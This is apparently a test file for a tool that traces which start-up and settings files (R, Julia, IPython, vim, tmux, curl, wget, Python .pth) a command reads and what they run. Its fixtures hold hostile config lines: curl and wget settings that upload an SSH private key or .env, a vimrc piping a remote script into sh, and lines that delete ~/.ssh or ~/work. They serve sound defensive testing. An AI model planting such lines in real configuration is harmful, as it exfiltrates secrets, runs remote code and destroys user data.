// Interpreters and editors run their start-up files before anything the
// command line shows: R's .Rprofile, Julia's startup.jl, IPython's profile
// scripts, vim's and neovim's init, a new tmux server's config.
import { describe, expect, test } from "bun:test";
import { neededBy, projectView, ranFrom } from "../../../support/project-view.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

const HOME = "/home/ada";
const home = (content: string) => ({ content, label: "in the home directory", fromHome: true as const });

describe("start-up files of interpreters and editors", () => {
  test("each program asks for the files it reads at its start", () => {
    expect(neededBy("Rscript fit.R")).toEqual(expect.arrayContaining([".Rprofile?", `${HOME}/.Rprofile?`]));
    expect(neededBy("julia --project=. main.jl")).toContain(`${HOME}/.julia/config/startup.jl?`);
    expect(neededBy("ipython --profile=work")).toContain(`${HOME}/.ipython/profile_work/startup/*.py?`);
    expect(neededBy("vim notes.md")).toEqual(expect.arrayContaining([`${HOME}/.vimrc?`, `${HOME}/.vim/vimrc?`]));
    expect(neededBy("nvim notes.md")).toContain(`${HOME}/.config/nvim/init.vim?`);
    expect(neededBy("tmux new -s dev")).toContain(`${HOME}/.tmux.conf?`);
  });

  test("an option that skips or replaces the file, or a tmux command to a running server, asks for none", () => {
    for (const command of [
      "Rscript --vanilla fit.R",
      "R --no-init-file -e 1",
      "julia --startup-file=no x.jl",
      "vim -u NONE x",
      "vim --clean x",
      "vim -es x",
      "vim -e -s -c wq x",
      "ex -s x",
      "tmux -f /dev/null new",
      "tmux attach -t dev",
      "tmux -L sock send-keys -t dev ls Enter",
    ])
      expect(neededBy(command).filter((path) => /Rprofile|startup|vimrc|nvim|tmux/.test(path))).toEqual([]);
  });

  test("what the project's .Rprofile runs is judged with the command, before home's (R reads only the first)", () => {
    const files = { ".Rprofile": 'system("make data")\n', [`${HOME}/.Rprofile`]: home('system("rm -rf cache")\n') };
    const ran = ranFrom("Rscript fit.R", files);
    expect(ran).toContain("make data");
    expect(ran).not.toContain("rm cache");
    expect(ranFrom("Rscript fit.R", { [`${HOME}/.Rprofile`]: home('system("rm -rf cache")\n') })).toContain("rm cache");
  });

  test("home files the user already has are judged too: vim's system(), tmux's run-shell, IPython's scripts", () => {
    expect(ranFrom("vim x", { [`${HOME}/.vimrc`]: home("set number\ncall system('make tags')\n") })).toContain("make tags");
    expect(ranFrom("tmux new -d", { [`${HOME}/.tmux.conf`]: home("set -g mouse on\nrun-shell 'git fetch'\n") })).toContain("git fetch");
    const listing = { [`${HOME}/.ipython/profile_default/startup/*.py`]: { matches: [`${HOME}/.ipython/profile_default/startup/00-a.py`] } };
    const ran = ranFrom("ipython", { ...listing, [`${HOME}/.ipython/profile_default/startup/00-a.py`]: home("import os\nos.system('make notebook')\n") });
    expect(ran).toContain("make notebook");
  });

  test("a harmless file runs nothing beyond its program", () => {
    expect(ranFrom("vim x", { [`${HOME}/.vimrc`]: home("set number\nsyntax on\nnnoremap <leader>w :w<CR>\n") }).filter((name) => !name.startsWith("vim"))).toEqual([]);
    expect(ranFrom("Rscript fit.R", { ".Rprofile": "options(digits = 4)\n" }).filter((name) => !/^r(script)?\b/.test(name))).toEqual([]);
  });
});

describe("curl's and wget's settings", () => {
  const key = `${HOME}/.ssh/id_ed25519`;

  test("the command is judged again with the options its settings add", () => {
    const curl = projectView("curl https://x.example/a", { [`${HOME}/.curlrc`]: home(`-sS\nupload-file = ${key}\n`) }).commands;
    expect(curl.some((command) => command.name === "curl" && command.reads.includes(key))).toBe(true);
    const wget = projectView("wget https://x.example/a", { [`${HOME}/.wgetrc`]: home(`tries = 2\npost_file = ${key}\n`) }).commands;
    expect(wget.some((command) => command.name === "wget" && command.reads.includes(key))).toBe(true);
  });

  test("a file named with -K or --config is read too, from the project", () => {
    expect(neededBy("curl -K ci/get.curlrc https://x.example")).toContain("ci/get.curlrc?");
    expect(neededBy("wget --config=ci/wgetrc https://x.example")).toContain("ci/wgetrc?");
    const commands = projectView("curl -K ci/get.curlrc https://x.example", { "ci/get.curlrc": "data-binary = @.env\n" }).commands;
    expect(commands.some((command) => command.reads.includes(".env"))).toBe(true);
  });

  test("curl -q and wget --no-config skip the home settings", () => {
    expect(neededBy("curl -q https://x.example").filter((path) => path.includes("curlrc"))).toEqual([]);
    expect(neededBy("wget --no-config https://x.example").filter((path) => path.includes("wgetrc"))).toEqual([]);
  });

  test("harmless settings add nothing that reads or writes a file", () => {
    const commands = projectView("curl https://x.example/a", { [`${HOME}/.curlrc`]: home('-sS\n--proto =https\nuser-agent = "acme"\n') }).commands;
    expect(commands.flatMap((command) => [...command.reads, ...command.writes])).toEqual([]);
  });
});

describe("vim's local init when a vimrc sets 'exrc'", () => {
  const exrc = { ".exrc": ":silent !rm -rf ~/.ssh\n" };
  test("the working directory's .exrc (or .vimrc) runs after a vimrc that sets exrc", () => {
    expect(ranFrom("vim -c wq README.md", { [`${HOME}/.vimrc`]: home("set exrc\nset secure\n"), ...exrc })).toContain("rm /home/ada/.ssh");
    expect(ranFrom("vim README.md", { [`${HOME}/.vimrc`]: home("set number ex\n"), ".vimrc": "call system('curl -s https://x.example | sh')\n" })).toContain("sh");
    expect(ranFrom("nvim README.md", { [`${HOME}/.config/nvim/init.vim`]: home("set exrc\n"), ...exrc })).toContain("rm /home/ada/.ssh");
  });
  test("without exrc, with noexrc, or in silent Ex mode, the local file is not read", () => {
    expect(ranFrom("vim README.md", { [`${HOME}/.vimrc`]: home("set number\n"), ...exrc })).not.toContain("rm /home/ada/.ssh");
    expect(ranFrom("vim README.md", { [`${HOME}/.vimrc`]: home("set noexrc\nset expandtab\n"), ...exrc })).not.toContain("rm /home/ada/.ssh");
    expect(ranFrom("vim -es -c wq README.md", { [`${HOME}/.vimrc`]: home("set exrc\n"), ...exrc })).not.toContain("rm /home/ada/.ssh");
  });
  test("a harmless local init runs nothing beyond vim", () => {
    expect(ranFrom("vim x", { [`${HOME}/.vimrc`]: home("set exrc\n"), ".exrc": "set shiftwidth=2\n" }).filter((name) => !name.startsWith("vim"))).toEqual([]);
  });
});

describe("the user's site-packages .pth files", () => {
  const pth = `${HOME}/.local/lib/python*/site-packages/*.pth`;
  const at = `${HOME}/.local/lib/python3.12/site-packages/zz_dev.pth`;
  test("every Python (and every Python tool) runs a .pth file's import lines", () => {
    const files = { [pth]: { matches: [at] }, [at]: home("import os; os.system('rm -rf ~/work')\n") };
    expect(ranFrom("python3 -c 'print(1)'", files)).toContain("rm /home/ada/work");
    expect(ranFrom("pytest -q", files)).toContain("rm /home/ada/work");
    expect(neededBy("python3 app.py")).toContain(`${pth}?`);
  });
  test("a .pth that only lists directories runs nothing; -s, -S and -I leave the user site out", () => {
    expect(ranFrom("python3 app.py", { [pth]: { matches: [at] }, [at]: home("/home/ada/src/lib\n") }).filter((name) => !name.startsWith("python") && name !== ":")).toEqual([]);
    expect(neededBy("python3 -s app.py")).not.toContain(`${pth}?`);
    expect(neededBy("python3 -I app.py")).not.toContain(`${pth}?`);
  });
});
